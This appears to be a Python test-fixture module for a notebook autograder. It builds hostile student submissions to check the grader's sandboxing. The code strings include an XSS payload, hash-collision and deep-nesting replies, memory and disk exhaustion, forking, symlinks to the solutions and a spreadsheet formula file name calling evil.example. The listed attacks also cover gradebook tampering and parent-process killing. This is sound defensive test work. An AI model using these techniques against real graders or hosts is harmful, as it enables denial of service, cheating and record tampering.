    <img src="x" onerror="document.body.innerHTML = 1"> [XSS-WRITTEN-LINK](javascript:document.body.innerHTML=1)
""")

# An output nested deeper than Python's recursion limit: taking it apart in the grader raised RecursionError out
# of the grading step, so nbgrader's autograde failed (autograde-failed: the grader's fault, not the student's).
UNREADABLE_OUTPUT = """
    import sys

    from IPython.display import publish_display_data

    sys.setrecursionlimit(20_000)
    _nested = []
    for _ in range(5000):                        # [[[[...]]]], 5000 deep
        _nested = [_nested]
    publish_display_data({"text/plain": "my weights", "application/json": {"weights": _nested}})
"""


# --- the resource class: attacks on the grader's memory, time and disk -----------------------------------
# Built at test time (tests/test_hostile_resources.py) and graded inside a memory-bounded cgroup, with the
# course folder on a size-limited tmpfs.

# Replies to the grader's bridge requests written by hand: the kernel's half of the bridge is public code,
# and a student can wrap it.
HAND_WRITTEN_REPLIES = """
    import json

    from IPython.display import publish_display_data

    _bridge = __attention_bridge__
    _handle = _bridge._kernel_peer.handle
    _RAW = {}

    def _serve(text):
        \"\"\"The bridge's own reply, with every marked result replaced by JSON written by hand.\"\"\"
        reply = _handle(text)
        for marker, raw in _RAW.items():
            reply = reply.replace(json.dumps(marker), raw)
        publish_display_data({_bridge.MIME: reply})

    _bridge.serve = _serve
"""

COLLIDING_KEYS = HAND_WRITTEN_REPLIES + """

    _P = 2**61 - 1       # every multiple of it hashes to 0 in Python: a dict of them is one chain of collisions

    # 2,000,000 such keys (about 50 MB): building that dict costs its square
    _RAW["@many-keys@"] = '{"dict": [' + ",".join(f"[{i * _P}, 0]" for i in range(1, 2_000_001)) + "]}"

    # and as many as the grader's bounds let through: 199 dicts of 1,000 such keys in one reply
    _MOST = [{i * _P: 0 for i in range(1, 1001)}] * 199

    def project_qkv(h, s, W_Q, W_K, W_V):
        return "@many-keys@"
"""

COLLIDING_KEYS_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        return _MOST
""")

NESTED_REPLIES = HAND_WRITTEN_REPLIES + """

    _RAW["@deep@"] = "[" * 150_000 + "]" * 150_000        # a list nested 150,000 deep

    def project_qkv(h, s, W_Q, W_K, W_V):
        return [[0.0] * 2000 for _ in range(2000)]        # a plain nested list of 4,000,000 numbers
"""

NESTED_ATTENTION = _cell("""
    def qkv_attention(Q, K, V, mask=None):
        return "@deep@"
""")

# Lesson 04's CountingScore wraps the grader's score function: it can call it with shapes of its own.
COUNTER_BROADCAST = _cell("""
    class CountingScore:
        \"\"\"Counts calls (wrong), after asking score_fn for all sequences at once.\"\"\"

        def __init__(self, score_fn):
            self.score_fn = score_fn
            self.count = 0

        def __call__(self, h, s, *args, **kwargs):
            if type(self.score_fn).__name__ == "RemoteCallable":        # the grader's own score function
                N = 10_000    # h as one sequence of N positions, s as N queries: N x N x d_h if broadcast
                try:
                    self.score_fn(torch.zeros(1, N, h.shape[-1], dtype=h.dtype),
                                  torch.zeros(N, s.shape[-1], dtype=s.dtype))
                except Exception:
                    pass
            scores = self.score_fn(h, s, *args, **kwargs)
            self.count += 1
            return scores
""")

# Lesson 02's attention_decode is handed the grader's score function and its reference helpers.
SCORE_FN_BROADCAST = "\n".join([
    "N_BIG = 10_000     # N positions against N queries: N x N x d if the grader broadcasts them", "", "",
    _in_body(submissions.solution_sources(L02)["attention_decode"], _cell("""
        if type(score_fn).__name__ == "RemoteCallable":            # the grader's own score function
            try:
                score_fn(torch.zeros(1, N_BIG, hs.shape[-1], dtype=hs.dtype),
                         torch.zeros(N_BIG, hs.shape[-1], dtype=hs.dtype))
            except Exception:
                pass
    """))])

HELPERS_BROADCAST = "\n".join([
    "N_BIG = 20_000     # N keys against N queries: N x N scores if the grader broadcasts them", "", "",
    _in_body(submissions.solution_sources(L02)["attention_decode"], _cell("""
        if type(dot_scores).__name__ == "RemoteCallable":          # the grader's reference helpers
            eye = torch.eye(4, dtype=hs.dtype)
            for helper, args in ((dot_scores, (torch.zeros(1, N_BIG, 4, dtype=hs.dtype),
                                               torch.zeros(N_BIG, 4, dtype=hs.dtype), eye, eye)),
                                 (attention_weights, (torch.zeros(N_BIG, N_BIG // 100, dtype=hs.dtype),))):
                try:
                    helper(*args)
                except Exception:
                    pass
    """))])

# One iopub message of about 300 MB that would cost the grader ~24 bytes per byte to parse: display data of 10^8
# empty lists, packed by hand (json.dumps would take the kernel longer than a cell may run).
IOPUB_300MB = """
    from IPython.display import display

    _LISTS = b"[" + b"[]," * (10**8 - 1) + b"[]]"
    _session = get_ipython().kernel.session
    _pack = _session.pack
    _session.pack = lambda obj: _pack(obj).replace(b'"@lists@"', _LISTS)
    display({"application/json": "@lists@"}, raw=True)
"""

FILL_WORKDIR = """
    import os

    def _fill(folder, cap):
        \"\"\"Fill `folder`'s file system with fallocate, 16 MiB at a time, `cap` at most.\"\"\"
        done = 0
        while done < cap:
            try:
                with open(os.path.join(folder, f"fill-{done // 2**24}"), "wb") as f:
                    os.posix_fallocate(f.fileno(), 0, 2**24)
            except OSError:
                break
            done += 2**24
        return done

    # 2 GiB at most in the working directory and in /tmp, 256 MiB in /dev/shm (its pages are memory)
    for _folder, _cap in ((".", 2 * 2**30), ("/tmp", 2 * 2**30), ("/dev/shm", 2**28)):
        print(f"filled {_folder}: {_fill(_folder, _cap)} bytes")
"""

MEMFD_HOARD = """
    import os
""" + MEMINFO + """
    # Files that live only in memory, outside RLIMIT_AS and the kernel's RSS: 8 GiB at most, in files of 32 MiB
    # (each below the sandbox's file size limit).
    _hoard = []
    for _ in range(256):
        if _meminfo("MemAvailable") < _reserve:
            break
        _fd = os.memfd_create("hoard")
        os.posix_fallocate(_fd, 0, 2**25)
        _hoard.append(_fd)
    print(f"holding {len(_hoard) * 32} MiB in memfd files")
"""

BUSY_CHILDREN = """
    import os
    import time

    for _ in range(48):                          # 48 busy children, each spinning for 2 minutes at most
        try:
            if os.fork() == 0:
                _end = time.monotonic() + 120
                while time.monotonic() < _end:
                    pass
                os._exit(0)
        except OSError:                          # a process limit
            break
    time.sleep(10)                               # and the kernel stays (below the cell's time limit)
"""


def _huge_notebook(lists: int) -> Callable[[], Iterable[bytes]]:
    """A valid lesson 03 notebook whose first cell's metadata holds `lists` empty lists (3 bytes each)."""
    def chunks():
        nb = submissions.answered(L03)
        nb.cells[0].metadata["padding"] = "@padding@"
        head, tail = nbformat.writes(nb).split('"@padding@"')
        yield (head + "[").encode()
        block = b"[]," * 1_000_000
        for _ in range((lists - 1) // 1_000_000):
            yield block
        yield b"[]," * ((lists - 1) % 1_000_000) + b"[]]" + tail.encode()
    return chunks


def _empty_notebook() -> str:
    """A valid notebook with no cell of any lesson."""
    return nbformat.writes(nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('hello')")]))


# --- broken files --------------------------------------------------------------------------------------

def _merge_conflict() -> str:
    """A correct notebook with a git merge conflict in it: not JSON any more."""
    lines = Hostile("", L03, "", 6, OK).content().decode().splitlines(keepends=True)
    at = next(i for i, line in enumerate(lines) if "Q = s @ W_Q.T" in line)
    theirs = lines[at].replace("s @ W_Q.T", "W_Q @ s")
    return "".join(lines[:at] + ["<<<<<<< HEAD\n", lines[at], "=======\n", theirs, ">>>>>>> theirs\n"] + lines[at + 1:])


def _random_bytes() -> bytes:
    return random.Random(3).randbytes(4096)


def _nbformat3() -> str:
    """The released lesson, unanswered, saved by an old Jupyter as nbformat 3."""
    nb = notebooks.read(paths.lesson_path(L03))
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def _is_test(cell) -> bool:
    return notebooks.is_autograded_test(cell)


def _tests_deleted(nb):
    nb.cells = [c for c in nb.cells if not _is_test(c)]
    return nb


def _tests_passed(nb):
    for c in nb.cells:
        if _is_test(c):
            c.source = "pass\n"
    return nb


def _helper_tests_last(helpers: tuple[str, ...]):
    """The helpers' test cells moved after every other test cell (after the composites' tests)."""
    def build(nb):
        moved = [c for c in nb.cells if _is_test(c) and notebooks.tested_function(c) in helpers]
        kept = [c for c in nb.cells if all(c is not m for m in moved)]
        last = max(i for i, c in enumerate(kept) if _is_test(c))
        nb.cells = kept[:last + 1] + moved + kept[last + 1:]
        return nb
    return build


def _duplicate_ids(nb):
    """The two answer cells share one id (and so do two markdown cells)."""
    answers = [c for c in nb.cells if notebooks.is_answer(c)]
    answers[1]["id"] = answers[0]["id"]
    markdown = [c for c in nb.cells if c.cell_type == "markdown"]
    markdown[1]["id"] = markdown[0]["id"]
    return nb


OK = {"ok"}
STOPPED = {"ok", "kernel-died", "timeout"}

STUDENTS: list[Hostile] = [
    Hostile("a00_honest_first", L03, "none: correct answers (sorts first)", 6, OK, full_marks=True),

    # --- fooling the comparisons and the checks -------------------------------------------------------
    Hostile("h01_allclose_patch", L03,
            "torch.allclose/equal/isclose (and numpy's) patched to agree (no to the visible mistake detectors)",
            0, OK, _wrong(ALLCLOSE_PATCH)),
    Hostile("h02_assert_close_patch", L03,
            "torch.testing.assert_close, numpy.testing.assert_* and unittest's asserts patched to no-ops",
            0, OK, _wrong(ASSERT_CLOSE_PATCH)),
    Hostile("h03_input_transformer", L03,
            "an IPython input transformer turns every later cell (tests, grader code) into `pass`",
            0, {"ok", "autograde-failed"}, _wrong(INPUT_TRANSFORMER)),
    Hostile("h04_thread_patches_checks", L03,
            "an import hook and a background thread replace check_*/quick_check_* and Student.fail in any "
            "'autograder'/'checks' module with no-ops",
            0, OK, _wrong(THREAD_PATCH)),
    Hostile("h05_disk_search", L03,
            "at call time, searches the disk (cwd and parents, the grader's code, sys.path, / for 5 s) for "
            "the solution or another student's answer and runs it; zeros if nothing found",
            0, OK, {"project_qkv": _cell(DISK_SEARCH), "qkv_attention": DISK_SEARCH_ATTENTION}),
    Hostile("h06_reference_import", L03,
            "at call time, imports the grader's autograder.reference and returns its answers; wrong if it can't",
            0, OK, {"project_qkv": _cell(REFERENCE_IMPORT), "qkv_attention": REFERENCE_IMPORT_ATTENTION}),
    Hostile("h07_agreeable_tensor", L03,
            "wrong answers returned as a torch.Tensor subclass whose comparisons (allclose, eq, isclose, ne, "
            "sub, ...) and gradients always agree",
            0, OK, {"project_qkv": _cell(AGREEABLE_TENSOR), "qkv_attention": AGREEABLE_ATTENTION}),
    Hostile("h08_gradebook_edit", L03,
            "finds gradebook.db and grades.csv (cwd upward, env, / for 5 s) and writes full marks, from the "
            "kernel and from a detached process that keeps at it for 25 s",
            0, OK, _wrong(GRADEBOOK_EDIT)),

    # --- stopping, hanging, hogging -------------------------------------------------------------------
    Hostile("h09_os_exit", L03, "os._exit(1) in the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"kernel-died"}, {"qkv_attention": _cell(OS_EXIT) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h10_sys_exit", L03, "sys.exit() in the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"ok", "kernel-died"}, {"qkv_attention": _cell(SYS_EXIT) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h11_endless_cell", L03, "an endless loop at the top of the qkv_attention cell, after a correct project_qkv",
            PROJECT_POINTS, {"timeout"}, {"qkv_attention": _cell(ENDLESS_CELL) + "\n\n" + CORRECT_ATTENTION}),
    Hostile("h12_endless_call_ignoring_signals", L03,
            "qkv_attention ignores SIGINT/SIGTERM/SIGALRM/SIGXCPU/... and loops when called; project_qkv correct",
            PROJECT_POINTS, STOPPED, {"qkv_attention": ENDLESS_CALL}),
    Hostile("h13_memory_hog", L03,
            "allocates up to 40 GB in 1 GB chunks kept alive, in the qkv_attention cell; project_qkv correct",
            PROJECT_POINTS, STOPPED, {"qkv_attention": _cell(MEMORY_HOG) + "\n\n" + WRONG_ATTENTION}),
    Hostile("h14_output_flood", L03, "prints about 200 MB, then answers correctly",
            6, STOPPED, {"project_qkv": _cell(OUTPUT_FLOOD) + "\n\n" + CORRECT_PROJECT}),
    Hostile("h15_fork_bomb", L03, "a fork bomb capped at 256 processes, each holding on for 20 s",
            0, STOPPED, _wrong(FORK_BOMB)),
    Hostile("h16_hidden_tracebacks", L02,
            "IPython's traceback display, stderr and the execute_reply's error status silenced, so failing "
            "test cells look passed "
            "(lesson 02: one wrong answer, the rest unanswered)",
            0, OK, {"additive_scores": _cell(HIDDEN_TRACEBACKS) + "\n\n"
                    + _mistake(lesson02.WRONG, "additive_scores", "concatenation [s_j; h_i] instead of [h_i; s_j]"),
                    **{fn: "" for fn in ("dot_scores", "attention_weights", "context_vector",
                                         "attention_decoder_step", "attention_decode")}}),
    Hostile("h17_pickle_payload", L03,
            "wrong results as a tensor subclass whose __reduce_ex__ runs code on unpickling (patches the "
            "unpickler's torch.allclose/equal/isclose)",
            0, OK, {"project_qkv": _cell(PICKLE_PAYLOAD), "qkv_attention": PICKLE_ATTENTION}),
    Hostile("h18_kill_parent", L03, "SIGKILL to the kernel's parent process (the grader, unsandboxed)",
            0, {"ok", "kernel-died", "autograde-failed"}, _wrong(KILL_PARENT)),

    # --- broken files -----------------------------------------------------------------------------------
    Hostile("h20_merge_conflict", L03, "invalid JSON: a git merge conflict inside a correct notebook",
            0, {"invalid-notebook"}, raw=_merge_conflict()),
    Hostile("h21_empty_file", L03, "an empty file", 0, {"invalid-notebook"}, raw=b""),
    Hostile("h22_random_bytes", L03, "4 KB of random bytes", 0, {"invalid-notebook"}, raw=_random_bytes()),
    Hostile("h23_nbformat3", L03, "the released lesson, unanswered, saved as nbformat 3",
            0, {"invalid-notebook", "ok"}, raw=_nbformat3()),
    Hostile("h24_renamed", L03, "a correct notebook saved as '03_query_key_value (2).ipynb'",
            6, OK, filename=f"{L03} (2).ipynb", full_marks=True),
    Hostile("h25_duplicate_cell_ids", L03, "correct answers; the two answer cells (and two markdown cells) share an id",
            6, OK, build=_duplicate_ids, full_marks=True, raw_json=True),
    Hostile("h26_tests_deleted", L03, "test cells deleted, wrong answers", 0, OK, WRONG, build=_tests_deleted),
    Hostile("h27_tests_edited", L03, "test cells edited to `pass`, wrong answers", 0, OK, WRONG, build=_tests_passed),
    Hostile("h28_qkv_missing", L03, "qkv_attention's cell emptied to a comment; project_qkv correct",
            PROJECT_POINTS, OK, {"qkv_attention": "# I ran out of time for this one.\n"}),
    Hostile("h29_wrong_signature", L03, "def qkv_attention(Q, K): (no V, no mask); project_qkv correct",
            PROJECT_POINTS, OK, {"qkv_attention": _cell("""
                def qkv_attention(Q, K):
                    weights = torch.softmax(Q @ K.transpose(-2, -1), dim=-1)
                    return weights @ K, weights
            """)}),

    # --- replaying the reference, and what reaches the browser ----------------------------------------
    Hostile("h30_replay_lesson01", L01,
            "the public checks pasted in; rnn_encode and seq2seq_decode (correct) run simple_rnn_step's checks "
            "against the reference helper handed to them and record it; simple_rnn_step replays the records; "
            "its test cell moved after the composites'",
            TEST_POINTS[L01]["rnn_encode"] + TEST_POINTS[L01]["seq2seq_decode"], OK,
            _replay_student(L01, "seq2seq", ("simple_rnn_step",), ("rnn_encode", "seq2seq_decode")),
            build=_helper_tests_last(("simple_rnn_step",))),
    Hostile("h31_replay_lesson02", L02,
            "the same in lesson 02: attention_decode (correct) records the five reference helpers on their "
            "public checks; the five helpers replay; their test cells moved after attention_decode's",
            TEST_POINTS[L02]["attention_decode"], OK, _replay_student(L02, "bahdanau", LESSON02_HELPERS,
                                                                     ("attention_decode",)),
            build=_helper_tests_last(LESSON02_HELPERS)),
    Hostile("h32_replay_lesson05", L05,
            "the same in lesson 05: self_attention_rnn (correct) records self_attention_rnn_step; the step "
            "replays; its test cell moved after self_attention_rnn's",
            TEST_POINTS[L05]["self_attention_rnn"], OK,
            _replay_student(L05, "self_attention_rnn", ("self_attention_rnn_step",), ("self_attention_rnn",)),
            build=_helper_tests_last(("self_attention_rnn_step",))),
    Hostile("h33_script_in_output", L03,
            "<script>, onerror/onload, javascript: links, an iframe and a form in its outputs (HTML, SVG, "
            "Javascript, Markdown) and in its written answer; wrong answers",
            0, OK, {**_wrong(SCRIPT_IN_OUTPUT), "written_roles": SCRIPT_IN_WRITTEN_ANSWER}),
    Hostile("h34_unreadable_output", L03,
            "display data nested 5000 deep at the top of the qkv_attention cell (RecursionError in the "
            "grader), then a wrong qkv_attention; project_qkv correct",
            PROJECT_POINTS, {"kernel-died"}, {"qkv_attention": _cell(UNREADABLE_OUTPUT) + "\n\n" + WRONG_ATTENTION}),

    Hostile("z99_honest_last", L03, "none: correct answers (sorts last)", 6, OK, full_marks=True),
]

assert len({s.name for s in STUDENTS}) == len(STUDENTS)
assert [s.name for s in STUDENTS] == sorted(s.name for s in STUDENTS)
BY_NAME = {s.name: s for s in STUDENTS}


# The resource class: built at test time by tests/test_hostile_resources.py (symbolic links, a 300 MB file,
# file names no checkout should hold) and graded in a memory-bounded cgroup with its folders on a small tmpfs.
BUSY_NEIGHBOUR = "r10_honest_neighbour"
RESOURCES: list[Hostile] = [
    Hostile("a00_honest_first", L03, "none: correct answers (sorts first)", 6, OK, full_marks=True),
    Hostile("r01_colliding_keys", L03,
            "bridge replies written by hand: a dict of 2,000,000 integer keys that all hash alike (50 MB), "
            "then 199 dicts of 1,000 such keys, as many as the reply bounds let through",
            0, OK, {"project_qkv": _cell(COLLIDING_KEYS), "qkv_attention": COLLIDING_KEYS_ATTENTION}, seconds=60),
    Hostile("r02_nested_replies", L03,
            "a plain nested list of 2000 x 2000 numbers as a result, and a reply written by hand that nests "
            "a list 150,000 deep",
            0, OK, {"project_qkv": _cell(NESTED_REPLIES), "qkv_attention": NESTED_ATTENTION}, seconds=60),
    Hostile("r03_counter_broadcast", L04,
            "CountingScore calls the grader's score function with h (1, 10^4, d_h) and s (10^4, d_s) "
            "(N x N x d_h if broadcast: 4 GB) before the real call; counts calls (wrong); the rest correct",
            POINTS[L04] - TEST_POINTS[L04]["CountingScore"], OK, {"CountingScore": COUNTER_BROADCAST}),
    Hostile("r04_score_fn_broadcast", L02,
            "attention_decode calls the grader's score function (RecordingScore) with h (1, 10^4, d) and "
            "s (10^4, d) (N x N x d if broadcast: up to 4 GB a tensor) before decoding correctly; all correct",
            POINTS[L02], OK, {"attention_decode": SCORE_FN_BROADCAST}),
    Hostile("r05_helpers_broadcast", L02,
            "attention_decode calls the reference helpers handed to it with (1, 2*10^4, 4) keys against "
            "2*10^4 queries (3.2 GB if broadcast) and a (2*10^4, 200) score table (32 MB a call: on a loaded "
            "machine the composite's test may run out of time) before decoding correctly; all correct",
            POINTS[L02], {"ok", "timeout"}, {"attention_decode": HELPERS_BROADCAST}),
    Hostile("r06_iopub_300mb", L03,
            "one iopub message of 300 MB (display data: 10^8 empty lists) before a correct project_qkv (a "
            "loaded machine may run out of time first; the grader's memory is checked either way)",
            0, {"kernel-died", "timeout"}, {"project_qkv": _cell(IOPUB_300MB) + "\n\n" + CORRECT_PROJECT}, seconds=30),
    Hostile("r07_fill_workdir", L03,
            "fills its working directory and /tmp with fallocate (2 GiB each at most) and /dev/shm (256 MiB), "
            "then a correct project_qkv; qkv_attention wrong",
            PROJECT_POINTS, OK, {"project_qkv": _cell(FILL_WORKDIR) + "\n\n" + CORRECT_PROJECT,
                                 "qkv_attention": WRONG_ATTENTION}),
    Hostile("r08_memfd_hoard", L03,
            "memfd_create + fallocate, 32 MiB files up to 8 GiB (past the kernel's cgroup), in the "
            "qkv_attention cell; project_qkv correct",
            PROJECT_POINTS, {"kernel-died", "ok"}, {"qkv_attention": _cell(MEMFD_HOARD) + "\n\n" + WRONG_ATTENTION},
            seconds=60),
    Hostile("r09_busy_children", L03,
            "48 busy child processes, then 10 s asleep in each answer cell (the children starve the kernel "
            "itself: it may run out of time); wrong answers",
            0, {"ok", "timeout"}, {"project_qkv": _cell(BUSY_CHILDREN) + "\n\n" + WRONG_PROJECT,
                                   "qkv_attention": "import time\n\ntime.sleep(10)\n\n\n" + WRONG_ATTENTION}),
    Hostile(BUSY_NEIGHBOUR, L03, "none: correct answers, graded beside r09's busy children", 6, OK,
            full_marks=True),
    Hostile("r11_link_to_solutions", L02, "02_bahdanau_attention.ipynb is a symbolic link to the course's "
            "solutions/02_bahdanau_attention.ipynb", 0, {"refused-file"}, link=lambda root: paths.solution_path(L02)),
    Hostile("r12_link_to_classmate", L03, "03_query_key_value.ipynb is a symbolic link to a00_honest_first's "
            "notebook", 0, {"refused-file"}, link=lambda root: Path("..") / "a00_honest_first" / f"{L03}.ipynb"),
    Hostile("r13_formula_file_name", '=HYPERLINK("evil.example","y")', "a notebook of no lesson named "
            '=HYPERLINK("evil.example","y").ipynb (a formula in a spreadsheet)', 0, {"unknown-lesson"},
            raw=_empty_notebook(), filename='=HYPERLINK("evil.example","y").ipynb'),
    Hostile("r14_huge_notebook", L03, "a valid 300 MB notebook: 10^8 empty lists in a cell's metadata",
            0, {"invalid-notebook"}, chunks=_huge_notebook(100_000_000)),
    Hostile("r15_many_lists", L03, "a valid 9 MB notebook: 3 * 10^6 empty lists in a cell's metadata",
            0, {"invalid-notebook"}, chunks=_huge_notebook(3_000_000)),
    Hostile("z99_honest_last", L03, "none: correct answers (sorts last)", 6, OK, full_marks=True),
]

assert [s.name for s in RESOURCES] == sorted(s.name for s in RESOURCES)


def build(root: Path, students: list[Hostile] = STUDENTS) -> Path:
    """Write every student's file to root/<name>/<file>; returns root."""
    root = Path(root)
    for student in students:
        student.write(root)
    return root


def build_resources(root: Path) -> Path:
    """Write the resource class (symbolic links, a 300 MB notebook) to root; returns root."""
    return build(root, RESOURCES)


def _table(students: list[Hostile], *, seconds: bool = False) -> list[str]:
    lines = ["| student | lesson | attack | may earn | acceptable statuses |" + (" grading time |" if seconds else ""),
             "|---|---|---|---|---|" + ("---|" if seconds else "")]
    for s in students:
        earn = f"full ({s.max_points:g})" if s.full_marks else f"at most {s.max_points:g}"
        lines.append(f"| `{s.name}/{s.file}` | {s.lesson} | {s.attack.replace('|', '/')} | {earn} "
                     f"| {', '.join(sorted(s.statuses))} |"
                     + (f" {f'honest + {s.seconds:g} s at most' if s.seconds else ''} |" if seconds else ""))
    return lines


def readme() -> str:
    lines = [
        "# Hostile and broken submissions",
        "",
        "Generated by `python -m tests.hostile` from `tests/hostile.py` (edit that, not these files).",
        "`python -m autograder grade tests/files/hostile --out OUT` must survive this class; each row says",
        "what the student tries and the most it may earn (\"full\" = exactly the lesson's points).",
        "Never grade it without the grader's sandbox: it holds a fork bomb, a memory hog, an output flood,",
        "a disk search, a parent killer and a gradebook tamperer (each bounded, but still).",
        "",
        *_table(STUDENTS),
        "",
        "## The resource class (built at test time)",
        "",
        "`tests/test_hostile_resources.py` writes a second class with `hostile.build_resources(root)` (symbolic",
        "links, a 300 MB notebook and file names that no checkout should hold are not kept here) and grades it",
        "with `--workers 2 --cell-timeout 20` inside a cgroup that bounds the memory of the grader and its",
        "kernels, the course folder and the grader's temporary files on a size-limited tmpfs.",
        "",
        *_table(RESOURCES, seconds=True),
    ]
    return "\n".join(lines) + "\n"


def main(root: Path = OUT) -> int:
    if root.exists():
        shutil.rmtree(root)
    build(root)
    (root / "README.md").write_text(readme())
    print(f"{len(STUDENTS)} students written to {root} (and {len(RESOURCES)} in the resource class, built at "
          "test time)")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
